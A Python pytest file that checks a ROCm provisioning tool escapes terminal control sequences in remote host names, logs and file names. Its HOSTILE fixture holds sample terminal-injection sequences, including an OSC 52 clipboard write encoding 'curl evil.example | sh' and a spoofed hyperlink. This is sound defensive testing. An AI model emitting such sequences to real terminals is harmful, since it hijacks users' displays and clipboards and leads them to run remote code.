"""Remote text never drives the terminal: host names, probe outputs and log lines that carry
ESC/OSC/CSI sequences or other control characters are shown spelled out, in `audit` tables and
`explain` evidence; rich markup is off for them ("[drm]" prints as "[drm]")."""

from __future__ import annotations

import io
import re
import subprocess
import sys
import unicodedata
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from rocmprov.commands.explain import _render_table
from rocmprov.kb import load_table
from rocmprov.model import AuditResult, Finding, HostReport, Severity
from rocmprov.report import table
from rocmprov.report.safe import printable

ROOT = Path(__file__).resolve().parent.parent

# what a hostile host or log can carry: a window-title OSC ended by BEL, an OSC 8 link ended
# by ST, OSC 52 (write the clipboard), clear screen, cursor up + erase line, an 8-bit CSI, a
# carriage return that overwrites the line, a right-to-left override, a backspace
HOSTILE = (
    "\x1b]0;pwned\x07"
    "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\"
    "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
    "\x1b[2J\x1b[1A\x1b[2K"
    "\x9b31m"
    "\rOK  "
    "\u202eevil\u202c"
    "\x08\x00\x7f"
)
ESCAPES_SHOWN = ("\\x1b]0;pwned\\x07", "\\x1b[2J", "\\x9b31m", "\\rOK", "\\u202e", "\\x08")
# rich's own colours, when it is told to use them: SGR only
RICH_SGR = re.compile(r"\x1b\[[0-9;]*m")


def _controls_left(text: str) -> list[str]:
    """Characters in `text` that a terminal would act on (beyond newline and tab)."""
    return sorted(
        {
            f"U+{ord(ch):04X}"
            for ch in RICH_SGR.sub("", text)
            if ch not in "\n\t"
            and (unicodedata.category(ch) == "Cc" or ch in "\u202a\u202b\u202c\u202d\u202e")
        }
    )


# ------------------------------------------------------------------ the helper


def test_printable_spells_out_every_control_and_keeps_layout() -> None:
    out = printable(f"line one\tcol\n{HOSTILE}\r\nlast")
    assert _controls_left(out) == []
    for shown in ESCAPES_SHOWN:
        assert shown in out
    assert out.startswith("line one\tcol\n") and out.endswith("\nlast")  # CRLF is a line end


def test_one_line_mode_also_spells_out_newline_and_tab() -> None:
    assert printable("gpu01\nfake: OK\t", one_line=True) == "gpu01\\nfake: OK\\t"


def test_ordinary_text_is_unchanged() -> None:
    text = "[drm] amdgpu 0000:03:00.0: ring gfx timeout — naïve 日本語 ✓\tx\n"
    assert printable(text) == text


@given(st.text())
def test_no_control_character_survives_any_text(text: str) -> None:
    assert _controls_left(printable(text)) == []
    assert _controls_left(printable(text, one_line=True).replace("\n", "")) == []
    assert "\n" not in printable(text, one_line=True)


# ------------------------------------------------------------------ audit table


def _hostile_result() -> AuditResult:
    finding = Finding(
        check="pcie.link.width",
        severity=Severity.CRITICAL,
        summary=f"[drm] link x8, expected x16 {HOSTILE}",
        fix=f"reseat the card {HOSTILE}",
        subject=f"0000:03:00.0{HOSTILE}",
    )
    return AuditResult(
        hosts=(
            HostReport(host=f"gpu01{HOSTILE}\nfake-host: OK", findings=(finding,)),
            HostReport(host="gpu02", failure="unreachable", message=f"ssh: {HOSTILE}"),
        )
    )


def _render_audit() -> str:
    buffer = io.StringIO()
    table.render(_hostile_result(), buffer, verbose=True)
    return buffer.getvalue()


def test_audit_table_lets_no_input_escape_reach_the_output() -> None:
    out = _render_audit()
    assert "\x1b" not in out and "\x9b" not in out  # a pipe: rich adds no colour either
    assert _controls_left(out) == []
    for shown in ("\\x1b]0;pwned\\x07", "\\x1b[2J", "\\x9b31m"):
        assert shown in out
    assert "[drm] link x8" in out  # markup off: the tag is text


def test_audit_host_name_cannot_fake_a_line() -> None:
    out = _render_audit()
    assert "\nfake-host: OK" not in out
    assert "\\nfake-host: OK" in out


def test_audit_table_with_colour_forced_has_only_richs_own_sgr(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """FORCE_COLOR makes rich write its styles: those are the only escapes in the output."""
    monkeypatch.setenv("FORCE_COLOR", "1")
    monkeypatch.delenv("NO_COLOR", raising=False)
    out = _render_audit()
    assert RICH_SGR.search(out), "rich did not colour: the test would prove nothing"
    assert "\x1b" not in RICH_SGR.sub("", out)
    assert _controls_left(out) == []


# ------------------------------------------------------------------ explain


def _hostile_log() -> str:
    return f"RuntimeError: No HIP GPUs are available {HOSTILE} [drm] tail\n"


def test_explain_renderer_lets_no_input_escape_reach_the_output() -> None:
    from rocmprov.kb.matcher import analyse

    text = _hostile_log()
    analysis = analyse(text)
    found = analysis.matches
    assert found and any("\x1b" in line for m in found for line in m.evidence)
    buffer = io.StringIO()
    _render_table(analysis, text, len(load_table()), True, file=buffer)
    out = buffer.getvalue()
    assert "\x1b" not in out and _controls_left(out) == []
    assert "\\x1b]0;pwned\\x07" in out and "[drm] tail" in out


def test_explain_cli_output_has_no_escape_byte() -> None:
    proc = subprocess.run(
        [sys.executable, "-m", "rocmprov", "explain", "-"],
        input=_hostile_log().encode(), capture_output=True, cwd=ROOT, timeout=60,
    )  # fmt: skip
    assert proc.returncode == 1, proc.stderr
    assert b"\x1b" not in proc.stdout and b"\xc2\x9b" not in proc.stdout
    assert b"\\x1b[2J" in proc.stdout and b"[drm] tail" in proc.stdout


def test_explain_error_line_spells_out_a_hostile_file_name(tmp_path: Path) -> None:
    name = str(tmp_path / "log\x1b]0;pwned\x07")
    proc = subprocess.run(
        [sys.executable, "-m", "rocmprov", "explain", name],
        capture_output=True, cwd=ROOT, timeout=60,
    )  # fmt: skip
    assert proc.returncode == 64
    assert b"\x1b" not in proc.stderr and b"\\x1b]0;pwned\\x07: no such file" in proc.stderr
